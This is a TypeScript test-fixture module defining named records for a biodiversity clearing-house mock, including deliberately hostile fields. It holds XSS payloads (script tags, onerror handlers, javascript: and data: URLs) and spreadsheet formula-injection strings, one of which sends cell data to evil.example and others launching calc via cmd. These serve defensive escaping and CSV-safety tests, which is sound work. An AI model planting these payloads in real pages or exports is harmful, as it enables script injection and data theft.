/**
 * Records and countries that tests and stories need by name. The generator builds these records with
 * exactly these document ids, revisions and traits, so the values below are facts of the snapshot and
 * not guesses: change them here and the data follows (generateSnapshot throws if a UID is not found).
 * No runtime imports: browser tests import this module directly.
 */
import type { Schema } from './schemas.js';

/** What makes a fixture record special; the builders honour these. */
export type Trait =
  | 'revoked' | 'expired' | 'titleFr' | 'titleEs'
  | 'hostileHtml' | 'hostileLink' | 'linksIrcc' | 'olderCopy'
  /** unlisted records (below): every text field hostile; deleted; an `absCNA` that points at no record */
  | 'hostileFields' | 'deleted' | 'danglingCna'
  /**
   * title (in all six languages), summary and other text end with HOSTILE_TEXT's payloads. The slot
   * stands in for a record the generator makes anyway (same random draws, same revision), so no
   * count and no other record changes: only this record's text and document id.
   */
  | 'hostileTitle';

export interface Slot {
  schema: Schema;
  /** the schema's short code (abs-record-types.json), repeated here so that this module needs no JSON */
  shortCode: string;
  government?: string;
  documentId: number;
  revision: number;
  /** fixed GUID when a test needs the identifier itself */
  identifier?: string;
  traits: readonly Trait[];
}

/** Reserved document ids 207343–207357 (SLOTS up to 207352, UNLISTED, then the `hostileTitle` SLOTS); generated records start at 210000. */
export const SLOTS = {
  indiaIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'in', documentId: 207343, revision: 1, traits: [] },
  revokedIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'in', documentId: 207344, revision: 2, traits: ['revoked', 'olderCopy'] },
  frenchOnlyTitle: { schema: 'absPermit', shortCode: 'IRCC', government: 'in', documentId: 207345, revision: 1, traits: ['titleFr'] },
  expiredIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'ke', documentId: 207346, revision: 1, traits: ['expired'] },
  kenyaCna: { schema: 'authority', shortCode: 'CNA', government: 'ke', documentId: 207347, revision: 1, identifier: '6E1F0B7A-2C54-4D8E-9A31-7B2D5C4E8F10', traits: [] },
  spanishOnlyTitle: { schema: 'measure', shortCode: 'MSR', government: 'ke', documentId: 207348, revision: 1, traits: ['titleEs'] },
  hostileMeasure: { schema: 'measure', shortCode: 'MSR', government: 'ke', documentId: 207349, revision: 2, traits: ['hostileHtml', 'olderCopy'] },
  hostileResource: { schema: 'resource', shortCode: 'VLR', documentId: 207350, revision: 1, traits: ['hostileLink'] },
  cpcWithIrcc: { schema: 'absCheckpointCommunique', shortCode: 'CPC', government: 'de', documentId: 207351, revision: 1, traits: ['linksIrcc'] },
  // the EU's first hand-written measure (national-names.ts) has the long title
  longTitle: { schema: 'measure', shortCode: 'MSR', government: 'eu', documentId: 207352, revision: 1, traits: [] },
  // Panama's first IRCC and the EU's second measure (after longTitle): records every list counts
  hostileTitleIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'pa', documentId: 207356, revision: 1, traits: ['hostileTitle'] },
  hostileTitleMeasure: { schema: 'measure', shortCode: 'MSR', government: 'eu', documentId: 207357, revision: 1, traits: ['hostileTitle'] },
} as const satisfies Record<string, Slot>;

/**
 * Records the documents store holds but the index does not: `GET documents/{id}` answers them, no
 * search finds them, so no published figure counts them (a deleted record leaves the index; the
 * others are as a record is between its publication and its indexing). The builders do not take
 * these slots: build-unlisted.ts makes them.
 */
export const UNLISTED = {
  hostileIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'in', documentId: 207353, revision: 1, identifier: '3F9C2B71-0D4E-4A65-B8E2-5C17A9D03E46', traits: ['hostileFields'] },
  deletedIrcc: { schema: 'absPermit', shortCode: 'IRCC', government: 'ke', documentId: 207354, revision: 1, identifier: '8B2E6D14-7A39-4C0F-9E58-1D4F7B6A2C93', traits: ['deleted'] },
  irccWithMissingCna: { schema: 'absPermit', shortCode: 'IRCC', government: 'in', documentId: 207355, revision: 1, identifier: 'C51A8F3E-92B6-4D07-A1E4-6F0B3D8C7E25', traits: ['danglingCna'] },
} as const satisfies Record<string, Slot>;

/** `deletedOn` of `deletedIrcc` (its info's, with `include-deleted=true`) */
const DELETED_ON = '2019-09-30T10:00:00Z';
/** the authority `irccWithMissingCna` points at: no document has this identifier */
const MISSING_CNA = 'E07D4B9A-6C21-4F83-B5A0-2E9D1C7F4B68';

/** `hostileIrcc`'s title, permit number, keyword (identifier and custom value) and first file name */
const PAYLOAD = '"><img src=x onerror="window.__xss()"><script>window.__xss()</script>';

/** What `hostileIrcc` holds in its text fields; `window.__xss` lets a test see that something ran. */
export const HOSTILE_IRCC = {
  payload: PAYLOAD,
  subjectMatter: `<svg onload="window.__xss()"><a xlink:href="javascript:window.__xss()">x</a></svg>${PAYLOAD}`,
  permitFiles: [
    { url: 'javascript:window.__xss()', name: PAYLOAD },
    { url: ' JaVa\tScRiPt:window.__xss()', name: 'two' },
    { url: 'data:text/html,<script>window.__xss()</script>', name: 'three' },
  ],
  usagesDescription: '<a href="&#106;avascript:window.__xss()">a</a><form action="javascript:window.__xss()"><button formaction="javascript:window.__xss()">b</button></form>',
} as const;

/**
 * What the `hostileTitle` records append to their text: a payload per title language (title_t,
 * title_EN_t, title_FR_t…), one to each summary, one to their other text (text_XX_txt). Each calls
 * `window.__xss()` if it ever runs. Titles are text: a list must show these characters as they are.
 */
export const HOSTILE_TEXT = {
  title: {
    en: ' <img src=x onerror="window.__xss()"><script>window.__xss()</script>',
    fr: ' "><svg onload="window.__xss()"><a xlink:href="javascript:window.__xss()">x</a></svg>',
    es: ' <a href=" JaVa\tScRiPt:window.__xss()">enlace</a><iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    ar: ' <math><mtext><table><mglyph><style><img src=x onerror="window.__xss()"></style></mglyph></table></mtext></math>',
    ru: ' <base href="javascript:window.__xss()//"><form action="javascript:window.__xss()"><button>x</button></form>',
    zh: ' <a href="data:text/html,<script>window.__xss()</script>">链接</a><div style="background:url(javascript:window.__xss())">x</div>',
  },
  summary: '<p>Annex <img src=x onerror="window.__xss()"> <a href="&#106;avascript:window.__xss()">more</a></p><script>window.__xss()</script><details open ontoggle="window.__xss()"><summary>x</summary></details>',
  text: '<object data="javascript:window.__xss()"></object><embed src="data:text/html,<script>window.__xss()</script>"><noscript><p title="</noscript><img src=x onerror=window.__xss()>">',
} as const;

/**
 * What mock-api's `hostilenames=1` switch makes of every country name, in each language: the
 * language's spreadsheet formula, a space, the name, then HOSTILE_TEXT's title payload of that
 * language. The formulas start with each of the characters a spreadsheet reads as the start of a
 * formula (`=`, `+`, `-`, `@`, tab, carriage return), so a CSV file with country names in any
 * language shows whether its cells are formula-safe. Names are text: shown as these characters.
 */
export const HOSTILE_NAME = {
  formula: {
    en: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    fr: "+cmd|' /C calc'!A0",
    es: "-2+3+cmd|' /C calc'!A0",
    ar: "@SUM(1+9)*cmd|' /C calc'!A0",
    ru: '\t=1+1',
    zh: '\r=1+1',
  },
} as const;

/** the UID as users see it: `ABSCH-IRCC-IN-207343-1` */
const shown = (slot: Slot): string => `ABSCH-${slot.shortCode}-${slot.government ?? 'scbd'}-${slot.documentId}-${slot.revision}`.toUpperCase();

export const FIXTURES = {
  /** a Party that has published no national record at all */
  partyWithNoRecords: 'ki',
  /** deposited its instrument 30 days before "now": ratified, not yet a Party */
  pendingParty: 'br',
  /** signed, never ratified */
  signatory: 'co',
  /** neither signed nor ratified (and not a CBD Party either) */
  nonParty: 'us',
  /** GUID of Kenya's National Environment Management Authority (NEMA), which issued most Kenyan IRCCs */
  kenyaCna: SLOTS.kenyaCna.identifier,
  kenyaCnaUid: shown(SLOTS.kenyaCna),
  /** an ordinary India IRCC (commercial use, plants) that a German checkpoint communiqué references */
  indiaIrcc: shown(SLOTS.indiaIrcc),
  /** revoked at revision 2; revision 1 is still stored and indexed as a non-current copy */
  revokedIrcc: shown(SLOTS.revokedIrcc),
  /** expired before 1 October 2019 */
  expiredIrcc: shown(SLOTS.expiredIrcc),
  /** an India IRCC whose title is only in French */
  frenchOnlyTitle: shown(SLOTS.frenchOnlyTitle),
  /** a Kenya measure whose title and summary are only in Spanish */
  spanishOnlyTitle: shown(SLOTS.spanishOnlyTitle),
  /** Kenya measure whose summary holds `<script>` and `<img onerror>`; revision 2, revision 1 indexed as a copy */
  hostileMeasure: shown(SLOTS.hostileMeasure),
  /** virtual library resource whose summary holds a `javascript:` link */
  hostileResource: shown(SLOTS.hostileResource),
  /** German checkpoint communiqué that references `indiaIrcc` */
  cpcWithIrcc: shown(SLOTS.cpcWithIrcc),
  /** EU measure with a title over 300 characters */
  longTitle: shown(SLOTS.longTitle),
  /** Panama IRCC whose title (six languages), summary and text end with HOSTILE_TEXT; counted as any other */
  hostileTitleIrcc: shown(SLOTS.hostileTitleIrcc),
  /** EU measure (Regulation (EU) No 511/2014) whose title (six languages), summary and text end with HOSTILE_TEXT; counted as any other */
  hostileTitleMeasure: shown(SLOTS.hostileTitleMeasure),
  /** unlisted India IRCC whose text fields are hostile (HOSTILE_IRCC): title, permit number, subject matter, keyword, files, usage */
  hostileIrcc: shown(UNLISTED.hostileIrcc),
  /** Kenya IRCC deleted on `deletedIrccOn`: documents/{id} answers 404 unless asked with `include-deleted=true` */
  deletedIrcc: shown(UNLISTED.deletedIrcc),
  deletedIrccOn: DELETED_ON,
  /** unlisted India IRCC whose `absCNA` is `{identifier: "{missingCna}@1"}`: a reference to a record that does not exist */
  irccWithMissingCna: shown(UNLISTED.irccWithMissingCna),
  /** GUID that no document has (the dangling `absCNA` of `irccWithMissingCna`) */
  missingCna: MISSING_CNA,
} as const;
